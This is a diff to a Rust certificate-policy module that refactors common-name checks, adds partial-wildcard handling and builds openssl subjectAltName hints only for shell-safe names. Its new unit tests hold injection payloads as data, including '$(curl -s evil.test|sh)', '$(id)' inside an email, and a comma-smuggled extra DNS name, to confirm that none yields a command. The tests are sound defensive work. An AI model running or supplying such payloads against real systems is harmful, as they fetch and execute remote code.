@@ -1,4 +1,4 @@
-use super::names::{NamesRule, Objection};
+use super::names::{NameLists, NamesRule, Objection};
 use super::subject::report_missing;
 use crate::diagnostic::{Diagnostic, Path, codes, path::steps, quote};
 use crate::name::{DnsName, EmailAddress, GeneralName, IpAddress, Named};
@@ -7,7 +7,7 @@ use crate::policy::decision::SubjectAttribute;
 use crate::policy::document::{CommonNameRule, InNames, Presence};
 use crate::policy::evaluate::Judgement;
 use crate::policy::matcher::text::TextMatcher;
-use crate::policy::matcher::{Faults, Verdict};
+use crate::policy::matcher::{Faults, InContext, PatternList, Verdict};
 use crate::request::CertificationRequest;
 
 /// The common name: one, and unless the policy says otherwise one of the subject alternative names.
@@ -17,6 +17,13 @@ pub(super) struct CommonName {
     allow: TextMatcher,
     deny: TextMatcher,
     in_names: InNames,
+}
+
+/// The lists that a common name is held against, in one context.
+struct CommonNameLists<'m> {
+    names: NameLists<'m>,
+    allow: InContext<'m, TextMatcher>,
+    deny: InContext<'m, TextMatcher>,
 }
 
 impl CommonName {
@@ -96,23 +103,36 @@ impl CommonName {
                 .with_help("make the request with one common name"),
             );
         }
+        let context = judgement.context;
+        let lists = CommonNameLists {
+            names: names.in_context(context),
+            allow: self.allow.in_context(context),
+            deny: self.deny.in_context(context),
+        };
         for (text, place) in values {
-            self.judge_value(names, text, place, judgement);
+            self.judge_value(names, &lists, text, place, judgement);
         }
     }
 
-    fn judge_value(&self, names: &NamesRule, text: &str, place: &Path, judgement: &mut Judgement<'_>) {
-        let (policy, context) = (judgement.policy, judgement.context);
+    fn judge_value(
+        &self,
+        names: &NamesRule,
+        lists: &CommonNameLists<'_>,
+        text: &str,
+        place: &Path,
+        judgement: &mut Judgement<'_>,
+    ) {
+        let policy = judgement.policy;
         let rule = steps!["subject", "commonName"];
         let added = if self.in_names == InNames::Add { as_name(text) } else { None };
         let equal = match self.in_names {
             InNames::Add => added.and_then(|name| equal_text(&name, text)),
             _ => judgement.request.subject_alt_names().iter().find_map(|name| equal_text(name, text)),
         };
-        let allowed = self.allow.find(text, context);
+        let allowed = lists.allow.find(text);
         // What is issued must be allowed as well as what is asked for.
         let issued_is_allowed =
-            equal.as_ref().is_none_or(|issued| self.allow.find(issued, context) != Verdict::NoMatch);
+            equal.as_ref().is_none_or(|issued| lists.allow.find(issued) != Verdict::NoMatch);
         let explicitly_allowed = allowed != Verdict::NoMatch && issued_is_allowed;
         if let Verdict::Match(index) = allowed {
             judgement.pass(|| rule.join("allow").join(index));
@@ -139,12 +159,12 @@ impl CommonName {
         }
         // Whoever takes the common name for a name takes it for one of these.
         let readings = readings(text);
-        let listed = readings.iter().find_map(|reading| match self.deny.find(reading, context) {
+        let listed = readings.iter().find_map(|reading| match lists.deny.find(reading) {
             Verdict::Match(index) | Verdict::Overlap(index) => Some(rule.join("deny").join(index)),
             Verdict::NoMatch => None,
         });
-        let name = read_name(text);
-        let objection = name.as_ref().and_then(|name| names.objection(name, context));
+        let name = read_name(text).or_else(|| partial_wildcard(text));
+        let objection = name.as_ref().and_then(|name| names.objection(name, &lists.names));
         match (listed, objection) {
             (Some(rule), _) | (None, Some(Objection::Denied(rule))) => report(
                 codes::POLICY_COMMON_NAME_DENIED,
@@ -152,8 +172,8 @@ impl CommonName {
                 rule,
                 "use another common name, or none".to_owned(),
             ),
-            (None, _) if !self.deny.undecided(context).is_empty() => {
-                report_missing(&self.deny.undecided(context), &shown, &rule.join("deny"), &mut report);
+            (None, _) if !lists.deny.undecided().is_empty() => {
+                report_missing(lists.deny.undecided(), &shown, &rule.join("deny"), &mut report);
             }
             // One of the names has been judged as that.
             (None, Some(Objection::Undecided(rule, missing))) if equal.is_none() => {
@@ -161,15 +181,20 @@ impl CommonName {
             }
             (None, _) => {}
         }
-        if let (Some(GeneralName::DnsName(Named { value: Ok(name), .. })), None) = (&name, &equal) {
-            for (code, key) in names.lacking(name) {
-                report(
-                    code,
-                    format!("{shown} is a wildcard, which policy `{policy}` does not allow"),
-                    steps!["names", "dns", key],
-                    "use another common name, or none".to_owned(),
-                );
-            }
+        // One of the names has been judged as that.
+        let lacking = match &name {
+            _ if equal.is_some() => Vec::new(),
+            Some(GeneralName::DnsName(Named { value: Ok(name), .. })) => names.lacking(name),
+            _ if text.contains('*') => names.lacking_for_any(is_like_name(text)),
+            _ => Vec::new(),
+        };
+        for (code, key) in lacking {
+            report(
+                code,
+                format!("{shown} is a wildcard, which policy `{policy}` does not allow"),
+                steps!["names", "dns", key],
+                "use another common name, or none".to_owned(),
+            );
         }
         if self.in_names == InNames::Add && equal.is_none() {
             report(
@@ -183,16 +208,20 @@ impl CommonName {
                 codes::POLICY_COMMON_NAME_NOT_IN_NAMES,
                 format!("{shown} is not one of the subject alternative names"),
                 rule.join("inNames"),
-                format!(
-                    "add it to the names: `-addext subjectAltName=DNS:{text},…`, or leave the common name out"
-                ),
+                match option_of(text) {
+                    Some(option) => format!("add it to the names: `{option}`, or leave the common name out"),
+                    None => format!(
+                        "leave the common name out, or add {} to subject.commonName.allow of the policy",
+                        quote(text)
+                    ),
+                },
             );
         } else if !explicitly_allowed && IpAddress::parse(text).is_some() {
             report(
                 codes::POLICY_COMMON_NAME_IP,
                 format!("{shown} is an IP address, which policy `{policy}` does not allow as a common name"),
                 rule.join("allow"),
-                "leave the common name out; the address stands in the subject alternative names".to_owned(),
+                "leave the common name out, and ask for the address as a subject alternative name".to_owned(),
             );
         }
         let value = equal.unwrap_or_else(|| text.to_owned());
@@ -200,10 +229,38 @@ impl CommonName {
     }
 }
 
+/// How openssl is asked for a common name as one of the names, in the kind that it is and in its canonical form; `None` if it is
+/// none, or if its text would mean something else to a shell or to openssl.
+fn option_of(text: &str) -> Option<String> {
+    let name = IpAddress::parse(text).map(GeneralName::ip).or_else(|| as_name(text))?;
+    let kind = match name {
+        GeneralName::IpAddress { .. } => "IP",
+        GeneralName::Rfc822Name(_) => "email",
+        _ => "DNS",
+    };
+    let canonical = name.display();
+    let is_plain = canonical.chars().all(|c| c.is_ascii_alphanumeric() || "-._:@*".contains(c));
+    is_plain.then(|| format!("-addext 'subjectAltName={kind}:{canonical},…'"))
+}
+
 /// The DNS name, mail address or IP address that a common name is read as. A dot at its end is no difference to DNS.
 fn read_name(text: &str) -> Option<GeneralName> {
     let bare = text.strip_suffix('.').unwrap_or(text);
     IpAddress::parse(bare).map(GeneralName::ip).or_else(|| as_name(bare))
+}
+
+/// The wildcard that stands for all the names that some programs take a common name for with `*` in its first label, such as
+/// `*.example.com` for `w*.example.com` (RFC 6125 6.4.3).
+fn partial_wildcard(text: &str) -> Option<GeneralName> {
+    let (label, domain) = text.strip_suffix('.').unwrap_or(text).split_once('.')?;
+    let wildcard = label.contains('*').then(|| format!("*.{domain}"))?;
+    let value = DnsName::parse_unicode(&wildcard).ok()?;
+    Some(GeneralName::DnsName(Named { text: value.to_string().into(), value: Ok(value) }))
+}
+
+/// Whether a text has only what DNS names have and `*`.
+fn is_like_name(text: &str) -> bool {
+    text.chars().all(|c| c.is_alphanumeric() || "-_.*".contains(c))
 }
 
 /// The texts as which a common name may be understood: as it stands, without a dot at its end, and in the form of the name
@@ -254,5 +311,42 @@ fn equal_text(name: &GeneralName, text: &str) -> Option<String> {
         }
         GeneralName::Uri(named) => (named.value.is_ok() && *named.text == *text).then(|| text.to_owned()),
         _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_command_has_the_requesters_text_in_it_but_a_name_in_its_canonical_form() {
+        for (text, option) in [
+            ("A.example.com", Some("-addext 'subjectAltName=DNS:a.example.com,…'")),
+            ("*.example.com", Some("-addext 'subjectAltName=DNS:*.example.com,…'")),
+            ("10.0.0.7", Some("-addext 'subjectAltName=IP:10.0.0.7,…'")),
+            ("2001:DB8::7", Some("-addext 'subjectAltName=IP:2001:db8::7,…'")),
+            ("jane@Example.com", Some("-addext 'subjectAltName=email:jane@example.com,…'")),
+            ("jane'$(id)'@example.com", None),
+            ("$(curl -s evil.test|sh)", None),
+            ("a.example.com,DNS:b.example.com", None),
+            ("w*.example.com", None),
+            ("Jane Doe", None),
+        ] {
+            assert_eq!(option_of(text).as_deref(), option, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_star_in_the_first_label_stands_for_the_wildcard() {
+        for (text, wildcard) in [
+            ("w*.Example.com.", Some("*.example.com")),
+            ("**.example.com", Some("*.example.com")),
+            ("*.*", None),
+            ("*", None),
+            ("www.*", None),
+            ("w*.a@example.com", None),
+        ] {
+            assert_eq!(partial_wildcard(text).map(|name| name.display()).as_deref(), wildcard, "{text}");
+        }
     }
 }
